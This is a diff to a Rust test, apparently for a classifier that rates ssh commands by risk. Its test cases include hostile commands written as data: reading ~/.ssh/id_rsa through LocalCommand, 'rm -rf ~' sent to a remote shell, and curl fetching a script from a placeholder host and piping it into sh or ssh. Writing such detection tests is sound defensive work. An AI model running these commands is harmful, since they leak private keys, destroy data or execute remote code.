@@ -1039,15 +1039,35 @@ fn remote_shells_and_copies() {
         ("echo 'rm -rf ~' | ssh host ''", "hard"),
         ("echo 'rm -rf ~' | ssh host", "hard"),
         ("ssh host <<< 'uptime'", "routine"),
+        // ssh fills in `%d` (the local home) and `%%` before the shell runs the command.
+        (
+            "ssh -o PermitLocalCommand=yes -o 'LocalCommand=cat %d/.ssh/id_rsa' host true",
+            "hard",
+        ),
+        (
+            "ssh -o PermitLocalCommand=yes -o \"LocalCommand=cat '%d/.ssh/id_rsa'\" host true",
+            "hard",
+        ),
+        ("ssh -o 'ProxyCommand=echo 100%%' host true", "routine"),
+        // `%h` and the like are known only when it runs.
+        (
+            "ssh -o PermitLocalCommand=yes -o 'LocalCommand=cat %h' host true",
+            "soft",
+        ),
+        ("echo uptime | ssh host", "routine"),
+        // Input the floor could not read is a session on the host no one sees.
+        ("ssh host <<< \"$CMD\"", "soft"),
+        ("curl -s https://x.example/d.sh | ssh host", "soft"),
         ("ssh host <<'EOF'\nrm -rf /srv/app\nEOF", "soft"),
         // Forwards carry traffic between this machine and the host's side.
         ("ssh -N -L 5432:db:5432 bastion", "soft"),
         ("ssh -R 8080:localhost:22 host", "soft"),
         ("ssh -D 1080 host", "soft"),
         ("ssh -o LocalForward='8080 localhost:80' host ls", "soft"),
-        // A proxy or local command is judged on its own, unless ssh fills in its words.
+        // A proxy or local command is judged on its own, unless ssh fills in its words
+        // with what is known only when it runs; `%d` is the local home.
         ("ssh -o ProxyCommand='ssh -W %h:%p jump' host ls", "soft"),
-        ("ssh -o LocalCommand='cat %d/.ssh/id_rsa' host ls", "soft"),
+        ("ssh -o LocalCommand='cat %d/.ssh/id_rsa' host ls", "hard"),
         (
             "ssh -o ProxyCommand='curl -s x.example/i | sh' host ls",
             "hard",
